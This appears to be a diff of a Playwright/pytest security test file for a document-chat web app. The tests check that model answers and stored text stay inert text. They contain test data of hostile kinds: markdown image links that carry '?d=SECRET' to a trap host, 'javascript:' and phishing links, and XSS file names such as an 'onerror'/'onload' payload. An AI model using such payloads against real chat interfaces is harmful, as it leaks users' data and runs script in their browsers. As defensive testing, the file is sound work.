@@ -91,8 +91,13 @@ def client(page: Page, site: Site) -> Iterator[httpx.Client]:
 
 
 @pytest.fixture
-def witness(page: Page, site: Site) -> Witness:
-    return Witness(site.url)
+def witness(page: Page, site: Site) -> Iterator[Witness]:
+    """On a page that is left: Gradio tells the console of a stream that the page's end cut off."""
+    page.goto("about:blank")
+    seeing = Witness(site.url)
+    seeing.watch(page)
+    yield seeing
+    seeing.closed = True
 
 
 def answered(client: httpx.Client, conversation: str, question: str = "What is the term of my agreement?") -> str:
@@ -109,9 +114,9 @@ def conversation(client: httpx.Client, title: str | None = None) -> str:
 
 
 def show(page: Page, site: Site, chosen: str) -> None:
-    page.goto(f"{site.url}/app/")
+    page.goto(f"{site.url}/login")  # any page of this origin; the chat opens what the tab remembers
     page.evaluate("id => sessionStorage.setItem('aim.conversation', id)", chosen)
-    page.reload()
+    page.goto(f"{site.url}/app/")
     expect(page.locator("#chat .message").first).to_be_visible(timeout=30_000)
     page.wait_for_timeout(500)  # whatever a page would fetch by itself it asks for by now
 
@@ -123,22 +128,26 @@ def test_d1_no_answer_makes_the_browser_ask_anybody(
     for image in IMAGES:
         site.answers(image.format(trap.origin, trap.origin.removeprefix("http://")) + " [P1].")
         answered(client, chosen)
-    witness.watch(page)
     show(page, site, chosen)
     bubbles = page.get_by_test_id("bot")
     expect(bubbles.filter(has_text=f"![logo]({trap.origin}/inline?d=SECRET)").first).to_be_visible()
-    expect(bubbles.filter(has_text=f"![no scheme](//{trap.origin.removeprefix('http://')}/no-scheme").first).to_be_visible()
+    expect(
+        bubbles.filter(has_text=f"![no scheme](//{trap.origin.removeprefix('http://')}/no-scheme").first
+    ).to_be_visible()
     expect(bubbles.filter(has_text=f'<img src="{trap.origin}/img?d=SECRET">').first).to_be_visible()
     assert page.evaluate(ALIVE) == []
     assert (trap.asked, witness.seen) == ([], [])
 
 
-def test_d1_d3_nor_while_it_is_written(page: Page, site: Site, trap: Trap, client: httpx.Client, witness: Witness) -> None:
+def test_d1_d3_nor_while_it_is_written(
+    page: Page, site: Site, trap: Trap, client: httpx.Client, witness: Witness
+) -> None:
     """Beginnings of an answer are drawn too, several times a second."""
     whole = "\n\n".join((*IMAGES, *LINKS, *DIAGRAMS)).format(trap.origin, trap.origin.removeprefix("http://"))
     site.answers(whole + " [P1].", token_seconds=0.03)
+    page.goto(f"{site.url}/login")
+    page.evaluate("sessionStorage.clear()")
     page.goto(f"{site.url}/app/")
-    witness.watch(page)
     page.get_by_role("textbox", name="Your question").fill("What is the term of my agreement?")
     page.get_by_role("textbox", name="Your question").press("Enter")
     looks, alive = 0, []
@@ -157,7 +166,6 @@ def test_d3_links_are_text(page: Page, site: Site, trap: Trap, client: httpx.Cli
     for link in (*LINKS, *DIAGRAMS):
         site.answers(link.format(trap.origin) + " [P1].")
         answered(client, chosen)
-    witness.watch(page)
     show(page, site, chosen)
     expect(page.get_by_test_id("bot").filter(has_text="[script](javascript:alert(1))").first).to_be_visible()
     expect(page.get_by_test_id("bot").filter(has_text=f"[your bank]({trap.origin}/phish)").first).to_be_visible()
@@ -212,12 +220,12 @@ def test_d4_stored_markup_stays_text_everywhere(
             "/api/messages", json={"conversation": chosen, "text": text, "documents": [taken.json()["id"]]}
         )
         assert site_says.status_code == 200, site_says.text
-    witness.watch(page)
     show(page, site, chosen)
     for source in page.locator("#chat details.source summary").all()[:12]:
         source.click()
     assert page.locator("#chat details.source[open] blockquote").count() > 3
     assert page.evaluate(ALIVE) == []
+    page.goto("about:blank")
     page.goto(f"{site.url}/app/knowledge")
     expect(page.locator("#own li.document").nth(len(titles) - 1)).to_be_visible(timeout=30_000)
     page.wait_for_timeout(500)
@@ -225,9 +233,10 @@ def test_d4_stored_markup_stays_text_everywhere(
     assert witness.seen == []
 
 
-def test_d4_a_file_name_in_the_drop_area_is_text(page: Page, site: Site, client: httpx.Client, witness: Witness) -> None:
+def test_d4_a_file_name_in_the_drop_area_is_text(
+    page: Page, site: Site, client: httpx.Client, witness: Witness
+) -> None:
     page.goto(f"{site.url}/app/")
-    witness.watch(page)
     hostile = "<img src=x onerror=alert(1)><svg onload=alert(2)>.exe"
     for name in (hostile, hostile.replace(".exe", ".txt")):
         file = {"name": name, "mimeType": "text/plain", "buffer": b"Nothing in particular."}
@@ -264,15 +273,18 @@ def test_d4_nothing_of_markup_survives_the_formatting() -> None:
         assert "[" not in html, text
 
 
-def test_d7_the_main_job_works_under_these_policies(page: Page, site: Site, client: httpx.Client, witness: Witness) -> None:
+def test_d7_the_main_job_works_under_these_policies(
+    page: Page, site: Site, client: httpx.Client, witness: Witness
+) -> None:
     """Ask, see the source, look at the documents: no error on the console, nothing refused by a policy."""
     site.llm.script()
-    witness.watch(page)
     page.goto(f"{site.url}/app/")
     page.get_by_role("textbox", name="Your question").fill("What is the term of my management agreement?")
     page.get_by_role("textbox", name="Your question").press("Enter")
     expect(page.get_by_role("log")).to_contain_text("two years", timeout=30_000)
     expect(page.locator("#chat details.source summary").first).to_contain_text("page 1", timeout=30_000)
+    expect(page.get_by_role("button", name="Send")).to_be_visible(timeout=30_000)
+    page.wait_for_timeout(300)
     page.get_by_role("link", name="Knowledge").click()
     expect(page.locator("#own")).to_contain_text("Management agreement", timeout=30_000)
     assert witness.seen == []
